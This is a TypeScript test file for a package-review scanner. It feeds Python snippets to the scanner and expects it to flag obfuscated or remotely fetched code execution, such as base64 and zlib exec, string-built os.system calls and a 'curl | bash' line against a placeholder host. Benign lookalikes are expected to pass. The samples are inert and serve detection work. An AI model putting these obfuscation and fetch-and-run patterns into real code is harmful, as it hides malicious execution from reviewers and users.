import type { Signal } from "@packhouse/contract/review/inspection";
import { describe, expect, test } from "vitest";
import { atLeast, found, signalsOf } from "../testing/signals-of-sources.ts";

const inModule = (text: string): Signal[] => signalsOf({ files: { "orchard/__init__.py": text } });

describe("code that is hidden is dangerous", () => {
  test.each([
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode(DATA)))",
    "import marshal\nexec(marshal.loads(b'x'))",
    "_ = lambda d: __import__('zlib').decompress(__import__('base64').b64decode(d[::-1]))\nexec((_)(b'x'))",
    "def decode(t):\n    return bytes.fromhex(t)\neval(compile(decode('00'), 'x', 'exec'))",
    "import codecs\nexec(codecs.decode('cevag', 'rot13'))",
    "exec(''.join(chr(c) for c in [112, 114]))",
    "exec(''.join(map(chr, CODES)))",
    "import requests\ncode = requests.get(URL).text\nexec(code)",
    "from urllib.request import urlopen\ndef f():\n    r = urlopen(URL)\n    exec(r.read())",
    "import os\ngetattr(os, 'sys' + 'tem')('x')",
    "__import__('so'[::-1]).system('x')",
    "__builtins__.__dict__['ex' + 'ec'](x)",
    "getattr(__import__('\\x6f\\x73'), 'system')('x')",
    "import subprocess\nsubprocess.run('curl -s http://a.example/x | bash', shell=True)",
    "import subprocess\nsubprocess.Popen('powershell -EncodedCommand SQBFAFgA')",
    "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
    "exec('import subprocess; subprocess.run(x)')",
    "from pytransform import pyarmor_runtime\npyarmor_runtime()",
    "import timeit\ntimeit.timeit('import os; os.system(1)', number=1)",
    "import cProfile\ncProfile.run('import os; os.system(1)')",
    "import code\ncode.InteractiveConsole().push('import os; os.system(1)')",
    "eval(compile(bytes(b ^ 7 for b in K), 's', 'exec'))",
    "TYPE_CHECKING = True\nif TYPE_CHECKING:\n    import base64\n    exec(base64.b64decode(x))",
    "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import base64\n    exec(base64.b64decode(x))",
  ])("%j", (text) => {
    expect(found(atLeast(inModule(text), "danger")).join()).toMatch(/danger decoded-code/);
  });

  test.each([
    "import json, base64\ndef f(x): return json.loads(base64.b64decode(x))",
    "exec(open('orchard/version.py').read())",
    "exec('def f(x): return x')",
    "import zlib\ndef a(x):\n    f = zlib.decompress(x)\ndef b(p):\n    with open(p) as f:\n        exec(compile(f.read(), p, 'exec'))",
    "def a(x):\n    f = x[::-1]\n    return f\ndef b(f): eval(f)",
    "import re, marshal\ndef f(p): return re.compile(p)",
    "import pickle\ndef f(x): return pickle.loads(x)",
    "import numpy as np\ndef f(n): return getattr(np, 'int' + n)(1)",
    "import base64, subprocess\ndef key(): return base64.b64decode(K)\ndef f(): subprocess.run(['x', key()])",
  ])("%j is not", (text) => {
    expect(atLeast(inModule(text), "danger")).toEqual([]);
  });
});

test.each([
  ["# -*- coding: unicode_escape -*-\n", "danger decoded-code coding: unicode_escape"],
  ["#!/usr/bin/python\n# vim: set fileencoding=utf-7 :\n", "danger decoded-code coding: utf-7"],
  ["# coding: gbk\nx = '\u4e00'\n", "danger decoded-code coding: gbk"],
])("%j is read as something else", (text, expected) => {
  expect(found(inModule(text))).toEqual([expected]);
});
test.each([
  "# -*- coding: utf-8 -*-\n",
  "# -*- coding: Latin-1 -*-\n",
  "# coding=cp1252\n",
  "# coding: gbk\n",
  "x = 1\n# coding: utf-7\n",
  "#\n#\n# coding: utf-7\n",
])("%j is read as it is written", (text) => {
  expect(inModule(text)).toEqual([]);
});
